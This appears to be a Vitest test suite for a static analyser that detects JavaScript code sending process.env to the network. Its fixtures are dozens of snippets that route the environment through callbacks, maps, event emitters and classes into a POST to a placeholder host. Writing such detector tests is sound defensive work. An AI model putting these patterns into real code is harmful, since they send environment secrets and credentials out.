import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** Whether the file sends its whole environment, whenever. */
function sends(source: string): boolean {
  const { flows } = analyzeJs(source).flow;
  return flows.some(({ sink, labels }) => sink === 'network' && (labels & LABEL.envAll) !== 0);
}

const SEND = "fetch('https://a.test', { method: 'POST', body: x })";

test.each([
  ['a parameter', `function read(done) { done(process.env); }\nread((x) => ${SEND});`],
  ['a table', `const to = { a: (x) => ${SEND} };\nto[process.argv[2]](process.env);`],
  [
    'a table of a class',
    `class A { constructor() { this.to = { a: (x) => ${SEND} }; } run(k) { this.to[k](process.env); } }\nnew A().run('a');`,
  ],
  [
    'a function picked first',
    `const to = [(x) => ${SEND}];\nconst one = to[Date.now() % 1];\none(process.env);`,
  ],
  ['a map', `const to = new Map([['a', (x) => ${SEND}]]);\nto.get(process.argv[2])(process.env);`],
  [
    'a map that is gone through',
    `const to = new Map([['a', (x) => ${SEND}]]);\nfor (const [, f] of to) f(process.env);`,
  ],
  [
    'an event whose name is a constant',
    `const { EventEmitter } = require('events');\nconst bus = new EventEmitter();\nconst NAMES = { done: 'a' };\nbus.on(NAMES.done, (x) => ${SEND});\nbus.emit(NAMES.done, process.env);`,
  ],
  [
    'a member that a class is given when it is made',
    `class Q { constructor(w) { this.w = w; } add(x) { this.w(x); } }\nnew Q((x) => ${SEND}).add(process.env);`,
  ],
  ['one of two', `const f = (x) => ${SEND};\n(globalThis.none ?? f)(process.env);`],
  [
    'what it is by itself',
    `function run(x, send = post) { send(x); }\nfunction post(x) { ${SEND}; }\nrun(process.env);`,
  ],
  ['a name of a parameter', `function go({ run }) { run(process.env); }\ngo({ run: (x) => ${SEND} });`],
  [
    'a list that was filled',
    `const to = [];\nconst on = (f) => to.push(f);\non((x) => ${SEND});\nfor (const f of to) f(process.env);`,
  ],
  [
    'a list that is gone through',
    `const to = [];\nconst on = (f) => to.push(f);\non((x) => ${SEND});\nto.forEach((f) => f(process.env));`,
  ],
  [
    'a map of sets',
    `const to = new Map();\nfunction on(n, f) { if (!to.has(n)) to.set(n, new Set()); to.get(n).add(f); }\nfunction tell(n, v) { for (const f of to.get(n) || []) f(v); }\non('a', (x) => ${SEND});\ntell('a', process.env);`,
  ],
  [
    'an object of lists',
    `const to = {};\nfunction on(n, f) { (to[n] || (to[n] = [])).push(f); }\non('a', (x) => ${SEND});\nfor (const f of to[process.argv[2]]) f(process.env);`,
  ],
  [
    'a queue',
    `const to = [];\nto.push((x) => ${SEND});\nwhile (to.length > 0) { const f = to.shift(); f(process.env); }`,
  ],
  [
    'a list of a class',
    `class A { constructor(to) { this.to = to; } use(f) { this.to.push(f); return this; } run(v) { for (const f of this.to) f(v); } }\nnew A([]).use((x) => ${SEND}).run(process.env);`,
  ],
  [
    'a list that a class is given',
    `class A { constructor(to = []) { this.to = to; } run(v) { for (const f of this.to) f(v); } }\nconst a = new A([(x) => ${SEND}]);\na.run(process.env);`,
  ],
  [
    'a method of an item',
    `class A { send(x) { ${SEND}; } }\nconst all = [new A()];\nfor (const a of all) a.send(process.env);`,
  ],
  [
    'a method of what a function makes',
    `class A { send(x) { ${SEND}; } }\nconst create = () => new A();\ncreate().send(process.env);`,
  ],
  [
    'what a function makes',
    `const to = (url) => (x) => fetch(url, { body: x });\nconst send = to('https://a.test');\nsend(process.env);`,
  ],
  [
    'objects put together',
    `const a = Object.assign(() => 1, { send(x) { ${SEND}; } });\na.send(process.env);`,
  ],
  [
    'an object that takes over another',
    `const a = { send(x) { ${SEND}; } };\nconst b = { ...a };\nb.send(process.env);`,
  ],
  ['a member of a function', `function a() {}\na.send = (x) => ${SEND};\na.send(process.env);`],
])('a function that is called by %s takes what it is given', (_, source) => {
  expect(sends(source)).toBe(true);
});

test.each([
  ['of another name', `const to = { a: (x) => ${SEND}, b() {} };\nto.b(process.env);`],
  ['that nothing calls', `const to = { a: (x) => ${SEND} };\nto.a;\nconsole.log(process.env);`],
  [
    'in another list',
    `const to = [];\nconst others = [];\nto.push((x) => ${SEND});\nothers.push((x) => x);\nfor (const f of others) f(process.env);`,
  ],
  [
    'with another default',
    `function run(x, send = String) { send(x); }\nconst post = (x) => ${SEND};\nrun(process.env);`,
  ],
  [
    'that is given something else',
    `function read(done) { done(1); }\nread((x) => ${SEND});\nString(process.env);`,
  ],
])('a function %s does not', (_, source) => {
  expect(sends(source)).toBe(false);
});

test.each([
  [
    'what a function makes',
    `const to = (url) => (x) => fetch(url, { body: process.env.A + x });\nconst send = to('https://a.test');\nsend(1);`,
  ],
  [
    'what a parameter is by itself',
    `const run = (send = post) => send(1);\nfunction post(x) { fetch('https://a.test', { body: process.env.A + x }); }\nrun();`,
  ],
])('%s runs when loading calls it', (_, source) => {
  expect(analyzeJs(source).flow.flows.map(({ live }) => live)).toEqual([true]);
});

test('a parameter is what it is by itself', () => {
  expect(sends(`const send = (x = process.env) => ${SEND};\nsend();`)).toBe(true);
});

test('tables of tables cost what one call may cost', () => {
  let table = '[]';
  for (let depth = 0; depth < 4; depth++) table = `[${Array.from({ length: 16 }, () => table).join()}]`;
  const source = `const t = ${table};\n${'t[i]();'.repeat(2_000)}fetch('https://a.test');`;
  const startedMs = performance.now();
  analyzeJs(source);
  expect(performance.now() - startedMs).toBeLessThan(5_000);
});

const SENDER = `class Base { push(x) { this.send(x); } send() {} }\nclass Sender extends Base { send(x) { ${SEND}; } }\n`;

test.each([
  ['that is inherited, and calls one that is put in its place', `${SENDER}new Sender().push(process.env);`],
  ['of what a function is given', `${SENDER}function go(to) { to.push(process.env); }\ngo(new Sender());`],
  [
    'of a parameter that is handed on',
    `${SENDER}function go(to) { to.push(process.env); }\nfunction first(to) { go(to); }\nconst one = new Sender();\nfirst(one);`,
  ],
  [
    'of what a class keeps',
    `${SENDER}class Job { constructor() { this.to = new Sender(); } run() { this.to.push(process.env); } }\nnew Job().run();`,
  ],
])('a method takes what it is given: one %s', (_, source) => {
  expect(sends(source)).toBe(true);
});

test.each([
  [
    'of a class that is extended, where its own has another in its place',
    `${SENDER}new Base().send(process.env);`,
  ],
  [
    'of a class that does not extend it',
    `${SENDER}class Other { push(x) { this.send(x); } send() {} }\nnew Other().push(process.env);`,
  ],
])('a method does not take what is given to one %s', (_, source) => {
  expect(sends(source)).toBe(false);
});

test('a class is made with what the one that it extends is made with', () => {
  const source = `class Base { constructor(x) { ${SEND}; } }\nclass Own extends Base { constructor(x) { super(x); } }\n`;
  expect(sends(`${source}new Own(process.env);`)).toBe(true);
  expect(sends(`${source.replace('constructor(x) { super(x); }', '')}new Own(process.env);`)).toBe(true);
  expect(sends(`${source.replace('super(x)', 'super(1)')}new Own(process.env);`)).toBe(false);
});
